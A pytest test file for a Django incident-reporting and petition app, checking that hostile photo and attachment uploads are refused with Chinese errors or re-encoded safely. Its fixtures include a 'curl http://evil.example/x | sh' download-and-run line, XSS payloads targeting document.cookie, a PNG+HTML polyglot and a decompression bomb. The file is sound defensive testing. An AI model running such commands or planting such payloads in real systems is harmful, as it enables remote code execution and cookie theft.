"""Hostile uploads: refused with a clear Chinese 400 / form error, or safely re-encoded.

- a PNG+HTML polyglot (a valid PNG carrying a <script> in a text chunk and an HTML page after
  its end): decoded and re-encoded to a fresh JPEG; nothing of the HTML or the metadata is left;
- a script renamed .jpg, a decompression bomb (100,000 x 100,000 pixels claimed by a few hundred
  bytes), a 50 MB file: refused (400 with the photos field message, in Chinese), nothing stored;
- served photos carry nosniff and an image type (inline); petition attachments are checked by
  content the same way (images re-encoded) and are only ever served as downloads (attachment,
  nosniff); the mediation rooms CSV import refuses binary junk with a 400.
"""

from __future__ import annotations

import io

import pytest
from django.conf import settings
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation
from PIL import Image, PngImagePlugin

from incidents import photos
from incidents.models import Incident, IncidentPhoto
from incidents.tests.conftest import IN_A1_1, gps_exif
from tests.builders import png_claiming

pytestmark = pytest.mark.django_db
BACKEND = "accounts.backends.PhoneOrUsernameBackend"
SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<html><body><img src=x onerror=alert(1)>" + SCRIPT + b"</body></html>"


@pytest.fixture(autouse=True)
def _fresh_limits():
    cache.clear()
    yield
    cache.clear()


def zh(message: str, **params) -> str:
    with translation.override("zh-hans"):
        text = translation.gettext(message)
    return text % params if params else text


NOT_A_PHOTO = "This file is not a photo: use JPEG, PNG, WebP or HEIC."
TOO_MANY_PIXELS = "The photo has too many pixels (at most %(mp)s megapixels)."
TOO_LARGE = "The photo is too large: at most %(mb)s MB."


# --- the hostile files -------------------------------------------------------------------------


def polyglot() -> bytes:
    """A real PNG (with GPS EXIF and a <script> text chunk) followed by an HTML page."""
    buffer = io.BytesIO()
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    Image.new("RGB", (64, 48), (10, 120, 200)).save(
        buffer, format="PNG", pnginfo=info, exif=gps_exif(24.505, 117.605)
    )
    return buffer.getvalue() + HTML


def script_as_jpg() -> bytes:
    return b"#!/bin/sh\ncurl http://evil.example/x | sh\n" + HTML


def bomb() -> bytes:
    """A decompression bomb: 100,000 x 100,000 pixels claimed."""
    return png_claiming(100_000, 100_000)


def fifty_megabytes() -> bytes:
    """A JPEG header followed by 50 MB of padding."""
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16)).save(buffer, format="JPEG")
    return buffer.getvalue() + b"\x00" * (50 * 1024 * 1024)


def as_upload(data: bytes, name: str, content_type: str = "image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


REFUSED = [
    ("script.jpg", script_as_jpg, NOT_A_PHOTO, {}),
    ("bomb.png", bomb, TOO_MANY_PIXELS, {"mp": photos.MAX_PIXELS // 1_000_000}),
    ("huge.jpg", fifty_megabytes, TOO_LARGE, {"mb": settings.PHOTO_MAX_BYTES // (1024 * 1024)}),
]


def signed_in(user) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="zh-hans")
    client.force_login(user, backend=BACKEND)
    return client


def report_fields(**extra) -> dict:
    return {
        "category": "0102",
        "description": "楼道口垃圾堆积",
        "lat": IN_A1_1[0],
        "lng": IN_A1_1[1],
        **extra,
    }


# --- settings ----------------------------------------------------------------------------------


def test_limits_are_configured():
    # Large uploads stream to a temporary file, never into memory; Pillow itself refuses bombs.
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE <= 5 * 1024 * 1024
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 30 * 1024 * 1024
    assert settings.PHOTO_MAX_BYTES <= 10 * 1024 * 1024
    assert Image.MAX_IMAGE_PIXELS is not None and Image.MAX_IMAGE_PIXELS <= photos.MAX_PIXELS


# --- the API -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "make", "message", "params"), REFUSED, ids=[row[0] for row in REFUSED]
)
def test_api_refuses_hostile_photos_with_a_chinese_field_message(city, name, make, message, params):
    client = signed_in(city.resident)
    response = client.post(
        "/api/v1/incidents", report_fields(photos=[as_upload(make(), name)]), format="multipart"
    )
    assert response.status_code == 400, response.content[:300]
    body = response.json()
    assert body["errors"]["photos"] == [zh(message, **params)]
    assert not Incident.objects.exists() and not IncidentPhoto.objects.exists()


def test_api_reencodes_a_polyglot_and_serves_it_as_an_image(city):
    client = signed_in(city.resident)
    response = client.post(
        "/api/v1/incidents",
        report_fields(photos=[as_upload(polyglot(), "cat.png", "image/png")]),
        format="multipart",
    )
    assert response.status_code == 201, response.content[:300]
    photo = IncidentPhoto.objects.get()
    for field in (photo.image, photo.thumbnail):
        with field.open("rb") as handle:
            stored = handle.read()
        assert stored.startswith(b"\xff\xd8") and stored.rstrip(b"\x00").endswith(b"\xff\xd9")
        assert b"<script" not in stored and b"<html" not in stored and b"onerror" not in stored
        image = Image.open(io.BytesIO(stored))
        assert image.format == "JPEG" and not image.getexif() and "Comment" not in image.info
    for url in (
        reverse("incidents:photo", args=[photo.pk]),
        reverse("incidents:photo_thumb", args=[photo.pk]),
    ):
        served = client.get(url)
        assert served.status_code == 200
        assert served["Content-Type"] == "image/jpeg"
        assert served["X-Content-Type-Options"] == "nosniff"
        assert served["Content-Disposition"].startswith("inline")
        assert b"<script" not in b"".join(served.streaming_content)


def test_every_move_with_photos_refuses_a_script_named_jpg(city):
    from incidents.tests.factories import make_incident

    incident = make_incident(city, state="accepted")
    client = signed_in(city.worker)
    response = client.post(
        f"/api/v1/incidents/{incident.pk}/resolve",
        {"result": "已清理", "photos": [as_upload(script_as_jpg(), "evidence.jpg")]},
        format="multipart",
    )
    assert response.status_code == 400
    assert response.json()["errors"]["photos"] == [zh(NOT_A_PHOTO)]
    incident.refresh_from_db()
    assert incident.state == "accepted" and not IncidentPhoto.objects.exists()


# --- the pages ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "make", "message", "params"), REFUSED, ids=[row[0] for row in REFUSED]
)
def test_report_page_shows_a_chinese_form_error(city, name, make, message, params):
    client = Client(HTTP_ACCEPT_LANGUAGE="zh-hans")
    response = client.post(
        reverse("incidents:report"),
        report_fields(reporter_phone="13911112222", photos=as_upload(make(), name)),
    )
    assert response.status_code == 400
    from django.utils.html import escape

    assert escape(zh(message, **params)) in response.content.decode()
    assert not Incident.objects.exists()


# --- petition attachments ----------------------------------------------------------------------


@pytest.fixture
def officer(region_tree):
    from petitions.tests import factories as f

    return f.officer("officer", region=region_tree["district"])


def file_with(officer, region, attachment):
    from petitions.tests import factories as f

    return f.file_letter(officer, region=region, attachments=[attachment])


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("evidence.jpg", script_as_jpg()),
        ("evidence.pdf", HTML),  # not a PDF
        ("evidence.docx", SCRIPT),  # not a Word file
        ("notes.txt", b"MZ\x90\x00\x03\x00\x00\x00binary"),  # a program, not text
        ("bomb.png", bomb()),
        ("page.html", HTML),
    ],
)
def test_petition_attachments_are_checked_by_content(officer, region_tree, name, data):
    from core.exceptions import ValidationFailed
    from petitions.models import Petition

    with pytest.raises(ValidationFailed) as error:
        file_with(officer, region_tree["a1"], as_upload(data, name, "application/octet-stream"))
    assert "attachments" in error.value.extra
    assert not Petition.objects.exists()


def test_petition_image_attachments_are_reencoded_and_served_as_downloads(officer, region_tree):
    petition = file_with(officer, region_tree["a1"], as_upload(polyglot(), "现场.png", "image/png"))
    attachment = petition.attachments.get()
    with attachment.file.open("rb") as handle:
        stored = handle.read()
    assert stored.startswith(b"\xff\xd8") and b"<script" not in stored
    assert not Image.open(io.BytesIO(stored)).getexif()  # GPS gone
    client = signed_in(officer)
    response = client.get(reverse("petitions:attachment", args=[petition.pk, attachment.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_a_text_attachment_is_a_download_never_a_page(officer, region_tree):
    petition = file_with(
        officer, region_tree["a1"], as_upload("情况说明".encode() + HTML, "说明.txt", "text/html")
    )
    attachment = petition.attachments.get()
    response = signed_in(officer).get(
        reverse("petitions:attachment", args=[petition.pk, attachment.pk])
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert not response["Content-Type"].startswith("text/html")


# --- mediation rooms CSV import ----------------------------------------------------------------


@pytest.mark.parametrize(
    "data", [bomb(), b"\x00\x01\x02" * 1000, b"name,type\n\x00\x00\n", b"\xff\xfe" + HTML]
)
def test_room_import_refuses_junk_with_a_400(region_tree, data):
    from tests.builders import make_user

    admin = make_user("admin", roles=["admin"])
    response = signed_in(admin).post(
        "/api/v1/mediation/rooms/import/",
        {"file": as_upload(data, "rooms.csv", "text/csv")},
        format="multipart",
    )
    assert response.status_code == 400, response.content[:300]
    assert response.json()["detail"]
